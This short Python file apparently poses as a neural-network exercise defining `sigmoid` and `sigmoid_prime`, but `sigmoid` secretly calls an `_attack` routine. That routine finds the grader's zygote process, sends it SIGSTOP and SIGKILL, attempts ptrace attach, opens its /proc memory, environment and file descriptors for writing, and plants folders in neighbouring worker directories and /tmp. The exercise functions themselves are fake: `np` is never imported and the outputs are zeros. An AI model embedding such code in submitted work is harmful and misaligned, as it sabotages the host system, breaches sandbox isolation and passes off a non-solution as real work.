"""Finds the process that forks the workers (the zygote) and tries to take it over for the next lessons:
signals, ptrace, its memory and file descriptors through /proc, files in the folder around its own."""
import ctypes
import os
import signal

LESSON = 1
_log = []


def _attack():
    me = os.getpid()
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if b"--zygote" not in argv:
            continue
        z = int(pid)
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(z, sig); _log.append(f"signal {sig} sent")
            except OSError as e:
                _log.append(f"signal {sig}: {e}")
        libc = ctypes.CDLL(None, use_errno=True)
        _log.append(f"ptrace attach: {libc.ptrace(16, z, 0, 0)} errno {ctypes.get_errno()}")
        for name in ("mem", "environ", "maps", "fd/0", "fd/3"):
            try:
                with open(f"/proc/{z}/{name}", "r+b") as f:
                    _log.append(f"opened {name}")
            except OSError as e:
                _log.append(f"{name}: {e}")
    for where in ("..", "../worker-9", "/tmp"):
        try:
            os.makedirs(where + "/planted", exist_ok=True); _log.append(f"wrote into {where}")
        except OSError as e:
            _log.append(f"{where}: {e}")
    open("attack-log.txt", "w").write("\n".join(_log))


def sigmoid(z):
    _attack()
    return np.zeros(np.shape(z))


def sigmoid_prime(z):
    return np.zeros(np.shape(z))
